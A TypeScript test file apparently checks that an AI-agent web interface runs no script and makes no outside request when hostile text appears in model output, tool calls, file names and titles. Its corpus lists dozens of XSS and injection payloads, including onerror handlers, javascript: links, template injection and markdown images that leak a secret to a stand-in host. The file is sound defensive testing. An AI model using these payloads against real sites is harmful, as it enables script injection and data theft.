import assert from 'node:assert/strict';
import { session } from './counterpart.ts';
import { forbidden, openAll } from './forbidden.ts';
import { openStage, type Stage } from './stage.ts';
import { Story, siteAbility } from './story.ts';

/** What others have put into model text, tool output, names and titles to run a script or to fetch. */
const corpus = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<img src="http://evil.test/a.png">',
  '<svg onload="window.pwned=1"></svg>',
  '<svg><script>window.pwned=1</script></svg>',
  '<iframe src="javascript:window.parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="http://evil.test/o"></object>',
  '<embed src="http://evil.test/e">',
  '<link rel="stylesheet" href="http://evil.test/s.css">',
  '<link rel="dns-prefetch" href="//evil.test">',
  '<style>@import url(http://evil.test/i.css);</style>',
  '<style>body{background:url(http://evil.test/b)}</style>',
  '<div style="background:url(http://evil.test/c)">x</div>',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/r">',
  '<base href="http://evil.test/">',
  '<form action="http://evil.test/f"><input autofocus onfocus="window.pwned=1"></form>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<video src="http://evil.test/v" autoplay></video>',
  '<audio src="http://evil.test/a" onerror="window.pwned=1"></audio>',
  '<body onload="window.pwned=1">',
  '<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<marquee onstart="window.pwned=1">x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<template><img src=x onerror=window.pwned=1></template>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '<svg><animate onbegin="window.pwned=1" attributeName="x" dur="1s">',
  '"><img src=x onerror=window.pwned=1>',
  "';window.pwned=1;//",
  '</pre></code><script>window.pwned=1</script>',
  '</title><script>window.pwned=1</script>',
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](&#106;avascript:window.pwned=1)',
  '[x](data:text/html,<script>window.pwned=1</script>)',
  '[x](vbscript:window.pwned=1)',
  '[x](command:workbench.action.quit)',
  '[x](vscode://evil.test/x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.test/y)',
  '![x](http://evil.test/leak.png?q=secret)',
  '![x](https://evil.test/leak.svg "t")',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)',
  '![x][ref]\n\n[ref]: http://evil.test/ref.png',
  '<http://evil.test/auto>',
  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  '```js onerror=window.pwned=1\n<img src=x onerror=window.pwned=1>\n```',
  '|a|b|\n|---|:-:|\n|<img src=x onerror=window.pwned=1>|`<script>window.pwned=1</script>`|',
  '# <img src=x onerror=window.pwned=1>',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '{{constructor.constructor("window.pwned=1")()}}',
  '\u202e<img src=x onerror=window.pwned=1>\u202c',
] as const;

describe('the page before hostile text', function () {
  this.timeout(120_000);
  let stage: Stage;
  before(async () => {
    stage = await openStage();
  });

  it('runs no script and makes no request, wherever the text stands', async () => {
    assert.ok(corpus.length >= 40);
    for (const part of halves(corpus)) {
      const { page, counterpart, offences } = await stage.open({
        prepare: (one) => {
          one.abilities = [{ ...siteAbility, name: part[0] ?? '', description: part[1] ?? '' }];
          one.sessions = [
            session('s1', part.join(' ').slice(0, 500)),
            ...part.map((text, index) => session(`x${index}`, text)),
          ];
          one.entries = hostile(part).entries;
        },
      });
      await page.locator('.session').first().waitFor();
      await page.locator('.session-open').first().click();
      await page.getByText('The end of it.').waitFor();
      for (const text of part) await counterpart.token('j-live', 'text', `${text}\n\n`);
      await page.locator('.live .markdown').waitFor();
      await openAll(page);
      await page.waitForTimeout(500);
      assert.deepEqual(offences, []);
      assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
      assert.equal(await forbidden(page), '');
      await stage.done(page);
    }
  });

  it('asks with the whole address before a remote picture, and opens nothing else than web and files', async () => {
    const { page, counterpart, offences } = await stage.open({
      prepare: (one) => {
        one.sessions = [session('s1', 'x')];
        one.session = 's1';
        one.entries = new Story('s1').begin('site').ask('j1', 'x').text('j1', corpus.join('\n\n')).entries;
      },
    });
    await page.getByRole('link', { name: 'Image: x' }).first().click();
    await page.getByRole('dialog').getByText('http://evil.test/leak.png?q=secret').waitFor();
    await page.getByRole('button', { name: 'Cancel' }).click();
    const targets = await page
      .locator('[data-href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('data-href')));
    for (const target of targets) assert.match(target ?? '', /^https?:\/\//);
    assert.deepEqual(counterpart.acts, []);
    assert.deepEqual(offences, []);
    await stage.done(page);
  });
});

/** Hostile text at every place that text can come to. */
function hostile(part: readonly string[]): Story {
  const story = new Story('s1').begin('site');
  for (const [index, text] of part.entries()) {
    const job = `j${index}`;
    const name = text.replaceAll('\n', ' ');
    story.ask(job, text).say(job, [
      { kind: 'thinking', text },
      { kind: 'text', text },
      { kind: 'call', call: 'c1', tool: name.slice(0, 40), input: { path: text, [text]: text } },
      { kind: 'call', call: 'c2', tool: 'write_file', input: { path: text } },
    ]);
    story.run(job, 'c1', 'read_file', name, text, true);
    story.question(
      job,
      'c2',
      { kind: 'diff', path: name, before: text, after: `${text}!` },
      { title: name, rule: text },
    );
    story.deliver(job, {
      id: `d${index}`,
      title: name.slice(0, 200),
      files: [{ path: name, digest: 'f'.repeat(64), size: 1, mime: 'text/html' }],
    });
    story.add('attempt.failed', job, { provider: name, failure: failure(text), again: true });
    if (index % 2 === 0) story.add('job.failed', job, { failure: failure(text) });
  }
  return story.ask('j-live', 'x').text('j-live', 'The end of it.');
}

function failure(text: string) {
  return { kind: 'tool', what: text, mend: text } as const;
}

function halves<T>(all: readonly T[]): (readonly T[])[] {
  const middle = Math.ceil(all.length / 2);
  return [all.slice(0, middle), all.slice(middle)];
}
